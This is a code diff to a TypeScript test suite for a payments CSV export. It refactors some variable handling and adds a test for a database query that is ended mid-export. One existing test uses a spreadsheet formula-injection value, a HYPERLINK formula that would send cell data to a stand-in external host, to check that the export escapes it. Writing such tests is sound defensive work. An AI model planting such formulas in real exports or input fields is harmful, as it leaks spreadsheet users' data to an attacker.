@@ -1,5 +1,6 @@
 import { once } from 'node:events';
 import { get } from 'node:http';
+import { text } from 'node:stream/consumers';
 import { eventually } from '@evenkeel/platform/testing';
 import { noon, Reporting, TOKEN } from '../reporting.fixture';
 import { aPayment, told, WALLET } from '../story.fixture';
@@ -42,7 +43,7 @@ describe('payments as CSV', () => {
   it('are a file with a title for each field', async () => {
     const payment = aPayment({ tier: 'tier_1', rebateMicros: 2_500 });
     await reporting.tell(...told([payment]));
-    const { status, headers, text } = await reporting.read('payments.csv?days=7');
+    const { status, headers, ...file } = await reporting.read('payments.csv?days=7');
     expect(status).toBe(200);
     expect(Object.fromEntries(headers)).toMatchObject({
       'content-type': 'text/csv; charset=utf-8; header=present',
@@ -51,7 +52,7 @@ describe('payments as CSV', () => {
       'x-as-of': noon.toISOString(),
       'x-lag-seconds': expect.stringMatching(/^\d+(\.\d)?$/),
     });
-    expect(linesOf(text)).toEqual([
+    expect(linesOf(file.text)).toEqual([
       'id,verified_at,endpoint,amount_usd,amount_atomic,payer,network,asset,transaction_hash,status,settled_at,' +
         'rebate_accrued_usd,request_id',
       `${payment.id},2026-02-10T11:58:00.120Z,/agent/v1/habits/analyze,0.050000,50000,` +
@@ -78,8 +79,8 @@ describe('payments as CSV', () => {
     const [event] = told([aPayment()]);
     const requestId = '=HYPERLINK("http://x.example?"&A1,"open")';
     await reporting.tell({ ...event!, data: { ...event!.data, requestId } });
-    const { text } = await reporting.read('payments.csv');
-    expect(text).toContain(`,"'=HYPERLINK(""http://x.example?""&A1,""open"")"\r\n`);
+    const file = await reporting.read('payments.csv');
+    expect(file.text).toContain(`,"'=HYPERLINK(""http://x.example?""&A1,""open"")"\r\n`);
   });
 
   it('are all there when there are many', async () => {
@@ -107,6 +108,19 @@ describe('a reader', () => {
     await eventually(async () => expect(await exportsInDatabase()).toBe(1));
     request.destroy();
     await eventually(async () => expect(await exportsInDatabase()).toBe(0));
+  });
+
+  it('whose query the database ends sees it, and others go on', async () => {
+    await manyPayments(30_000);
+    const { response } = await open();
+    response.pause();
+    await eventually(async () => expect(await exportsInDatabase()).toBe(1));
+    await query(
+      `SELECT pg_terminate_backend(pid) FROM pg_stat_activity
+       WHERE datname = current_database() AND query LIKE 'FETCH %' AND state <> 'idle'`,
+    );
+    await expect(text(response)).rejects.toThrow('aborted');
+    await eventually(async () => expect((await reporting.read('payments.csv')).status).toBe(200));
   });
 
   it('who is the third at once waits, until another is gone', async () => {
